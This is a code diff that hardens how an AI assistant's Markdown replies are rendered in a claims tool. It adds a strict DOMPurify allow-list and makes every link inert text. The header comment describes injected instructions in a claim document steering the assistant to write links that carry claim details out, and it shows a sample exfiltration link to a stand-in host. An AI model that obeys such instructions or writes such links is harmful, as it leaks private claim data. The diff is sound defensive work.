@@ -1,9 +1,15 @@
 /**
  * Turns the assistant's Markdown into safe HTML for the reply pane. Model output is untrusted
  * (a document on the claim could carry instructions or markup), so the HTML from `marked` goes
- * through DOMPurify with a narrow allow-list: no scripts, no event handlers, no images (a
- * remote image could leak data in its URL), links only to http(s) and mailto. Citation markers
- * outside code become buttons carrying `data-cite="<kind>:<id>"` that the pane handles.
+ * through DOMPurify with a narrow allow-list of text-formatting tags and attributes: no scripts,
+ * no event handlers, nothing that loads a remote address (an image or a table background could
+ * leak claim data in its URL without a click).
+ *
+ * Links to outside sites are never live. A reply's link could have been written on a document's
+ * instructions to carry claim details in its address (`[click](https://x.example/?q=<details>)`),
+ * so each link is shown as plain text followed by its full address: the handler sees where it
+ * goes and can copy it if they trust it. Citation markers outside code become the page's own
+ * buttons carrying `data-cite="<kind>:<id>"`, which open the source on the claim.
  */
 import { Marked } from 'marked';
 import DOMPurify, { type Config } from 'dompurify';
@@ -16,12 +22,22 @@ const markdown = new Marked({ gfm: true, breaks: false, async: false });
 
 const SANITIZE_OPTIONS: Config & { RETURN_DOM_FRAGMENT: true } = {
   RETURN_DOM_FRAGMENT: true,
-  FORBID_TAGS: ['img', 'picture', 'video', 'audio', 'source', 'svg', 'math', 'style', 'form', 'input',
-    'button', 'textarea', 'select', 'iframe', 'object', 'embed'],
-  FORBID_ATTR: ['style', 'id', 'class', 'name'],
+  // What Markdown produces, plus the inline HTML a reply might reasonably use. Anything else
+  // (img, iframe, form, button, svg, ...) is dropped, keeping its text.
+  ALLOWED_TAGS: ['p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'b', 'i', 'u', 's',
+    'del', 'ins', 'mark', 'small', 'sub', 'sup', 'abbr', 'blockquote', 'ul', 'ol', 'li', 'dl', 'dt', 'dd',
+    'code', 'pre', 'kbd', 'samp', 'table', 'caption', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td',
+    'span', 'div', 'a'],
+  // No src, background, poster, ping, action, cite...: no attribute that names a remote address
+  // except a link's href, which is read below and shown as text, never followed.
+  ALLOWED_ATTR: ['href', 'title', 'align', 'start', 'colspan', 'rowspan'],
   ALLOW_DATA_ATTR: false,
+  ALLOW_ARIA_ATTR: false,
   ALLOWED_URI_REGEXP: /^(?:https?:|mailto:)/i,
 };
+
+const OUTSIDE_LINK_TITLE =
+  'Links in replies are not opened from here. Check the address; copy it into your browser only if you trust it.';
 
 /** Elements whose text is literal: a marker in a code span is an example, not a citation. */
 const LITERAL_ANCESTORS = 'code, pre, a, kbd, samp';
@@ -32,11 +48,31 @@ export function renderReply(source: string, describe: DescribeSource): string {
   const host = document.createElement('div');
   host.append(fragment);
   linkCitations(host, describe);
-  for (const link of host.querySelectorAll('a[href]')) {
-    link.setAttribute('target', '_blank');
-    link.setAttribute('rel', 'noopener noreferrer nofollow');
-  }
+  for (const link of host.querySelectorAll('a')) link.replaceWith(inertLink(link));
   return host.innerHTML;
+}
+
+/**
+ * A link as text: what it said, then its full address when that differs from what it said
+ * (a bare address is shown once). An href DOMPurify removed (javascript:, data:) leaves only
+ * the text.
+ */
+function inertLink(link: HTMLAnchorElement): HTMLElement {
+  const span = document.createElement('span');
+  span.className = 'outside-link';
+  const href = link.getAttribute('href');
+  const said = (link.textContent ?? '').trim();
+  span.append(...link.childNodes);
+  if (href) {
+    span.title = OUTSIDE_LINK_TITLE;
+    if (said !== href && `mailto:${said}` !== href) {
+      const address = document.createElement('span');
+      address.className = 'outside-link-address';
+      address.textContent = href;
+      span.append(said ? ' (' : '', address, said ? ')' : '');
+    }
+  }
+  return span;
 }
 
 function linkCitations(root: HTMLElement, describe: DescribeSource): void {
